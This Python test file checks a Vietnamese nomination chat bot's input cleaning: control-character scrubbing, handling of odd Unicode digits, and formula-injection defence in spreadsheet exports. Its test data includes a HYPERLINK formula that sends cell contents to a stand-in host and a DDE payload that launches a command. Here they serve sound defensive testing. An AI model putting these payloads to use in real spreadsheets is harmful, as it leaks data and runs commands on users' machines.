"""Text from people is cleaned once where it comes in, and every export keeps it harmless:
control characters never reach storage or a spreadsheet, a value that looks like a formula stays
text, and digits that are not ASCII ("²", "①", "１") never crash a step (they are not numbers:
`handlers.numbers.whole`)."""

from __future__ import annotations

from datetime import datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot.app import App
from handlers.text import sanitize, scrub
from storage.models import Nomination
from storage.sheets import new_workbook, safe_value
from tests.factories import World, dialog, make_incoming, texts
from tests.test_digest import seed
from tests.test_report import load_defaults

CONTROLS = "".join(chr(c) for c in [*range(0x01, 0x09), *range(0x0E, 0x20), 0x7F, 0x9F])
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULAS = [
    '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
]


@pytest.mark.nodb
def test_scrub_drops_every_control_and_invisible_character_and_keeps_vietnamese() -> None:
    dirty = f"Nguy\u0065\u0302\u0303n{CONTROLS}\u202eVăn\u200b\tAn\r\nthôn Đông\u2028x"
    clean = scrub(dirty)
    assert clean == "NguyễnVăn\u200b An\nthôn Đông\nx"
    assert not any(ord(c) < 0x20 and c != "\n" for c in clean)
    assert len(scrub("a" * 50_000)) == 20_000


@pytest.mark.nodb
def test_every_text_of_a_message_is_scrubbed_at_the_boundary() -> None:
    msg = sanitize(
        make_incoming(
            f"xin{CONTROLS}chào",
            choice=f"n:1{CONTROLS}",
            display_name=f"Lò\x07Văn{CONTROLS}An" + "x" * 500,
            caption="ảnh\x1b[31m",
        )
    )
    assert msg.text == "xinchào" and msg.choice == "n:1"
    assert (
        msg.extras["display_name"].startswith("LòVănAn") and len(msg.extras["display_name"]) == 200
    )
    assert msg.extras["caption"] == "ảnh[31m"


async def test_a_nominee_named_with_control_characters_is_stored_clean_and_the_digest_works(
    app: App, world: World
) -> None:
    await load_defaults(app)
    steps = [
        ("de xuat", "đề xuất cho ai"),
        ("1", "Họ và tên"),
        (f"Nguyễn\x01Văn\x1fAn{CONTROLS}", "Nam hay nữ"),
        ("Nam", "Năm sinh"),
        ("1965", "Chức vụ và đơn vị"),
        ("Nông dân\x08, thôn Đông", "hình thức khen thưởng"),
        ("1", "loại nào"),
        ("Đột xuất", "phong trào"),
        ("Người tốt, việc tốt\x0e", "tóm tắt thành tích"),
        ("Hiến đất\x02 làm đường liên thôn cho cả xóm cùng đi.", "minh chứng"),
        ("Xong", "Thành tích"),
        ("1", "Đã gửi đề xuất"),
    ]
    await dialog(app.engine, "head1", steps)
    async with app.sessions() as session:
        nomination = await session.scalar(select(Nomination))
    assert nomination is not None and nomination.nominee == "NguyễnVănAn"
    assert all(ord(c) >= 0x20 for c in nomination.position + nomination.achievement)
    outcome = await app.engine.handle(make_incoming("/tonghop", "staff"))
    assert "sự cố" not in texts(outcome)
    assert any(r.attachment and r.attachment.filename.endswith(".xlsx") for r in outcome.replies)


async def test_names_stored_before_the_boundary_cleaning_still_export(
    app: App, world: World
) -> None:
    """Rows written before text was cleaned (or by any other way in) still export."""
    await seed(app, world)
    async with app.sessions() as session, session.begin():
        for nomination in (await session.scalars(select(Nomination))).all():
            nomination.nominee = f"Lò\x01Văn\x1bBảo{CONTROLS}"
            nomination.achievement = FORMULAS[0]
    outcome = await app.engine.handle(make_incoming("/tonghop", "staff"))
    [sheet] = [r.attachment for r in outcome.replies if r.attachment and r.attachment.mime == XLSX]
    book = load_workbook(sheet.path)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value]
    assert any("LòVănBảo" in str(c.value) for c in cells)
    assert not any(ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F for c in cells for ch in str(c.value))
    assert all(c.data_type != "f" for c in cells)
    assert any(c.value == "'" + FORMULAS[0] for c in cells)


@pytest.mark.nodb
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_value_that_looks_like_a_formula_stays_text_in_every_export(
    formula: str, tmp_path: object
) -> None:
    book = new_workbook()
    sheet = book.active
    sheet.append([formula, 12, None, datetime(2026, 11, 10)])
    sheet["B2"] = formula
    sheet.cell(3, 1, formula)
    extra = book.create_sheet("Khác")
    extra.append({"A": formula})
    from pathlib import Path

    path = Path(str(tmp_path)) / "x.xlsx"
    book.save(path)
    loaded = load_workbook(path)
    values = [c for ws in loaded.worksheets for row in ws.iter_rows() for c in row if c.value]
    written = [c for c in values if isinstance(c.value, str)]
    assert len(written) == 4 and all(c.data_type == "s" for c in written)
    assert all(c.value == "'" + formula for c in written)
    assert safe_value(12) == 12 and safe_value("Thôn Đông") == "Thôn Đông"


WEIRD_DIGITS = ["²", "①", "³", "¹²", "⑩", "１", "𝟐", "٣", "Ⅻ", "½", "⁰"]


@pytest.mark.parametrize("typed", WEIRD_DIGITS)
async def test_odd_digits_at_every_kind_of_question_get_an_answer_not_the_apology(
    app: App, world: World, typed: str
) -> None:
    await load_defaults(app)
    for opener in ("/baocao", "/dexuat", "/tamdung", "/ngonngu", "/nhiemvu"):
        await app.engine.handle(make_incoming("/huy", "head1"))
        await app.engine.handle(make_incoming(opener, "head1"))
        for _ in range(3):
            outcome = await app.engine.handle(make_incoming(typed, "head1"))
            assert "sự cố" not in texts(outcome), (opener, typed)
        outcome = await app.engine.handle(make_incoming(f"tam dung {typed}", "head1"))
        assert "sự cố" not in texts(outcome), (opener, typed)
    for opener in ("/tonghop", "/duyet", "/chithi", "/napvanban"):
        await app.engine.handle(make_incoming("/huy", "staff"))
        await app.engine.handle(make_incoming(opener, "staff"))
        outcome = await app.engine.handle(make_incoming(typed, "staff"))
        assert "sự cố" not in texts(outcome), (opener, typed)
        forged = await app.engine.handle(make_incoming("", "staff", choice=f"n:{typed}"))
        assert "sự cố" not in texts(forged), (opener, typed)
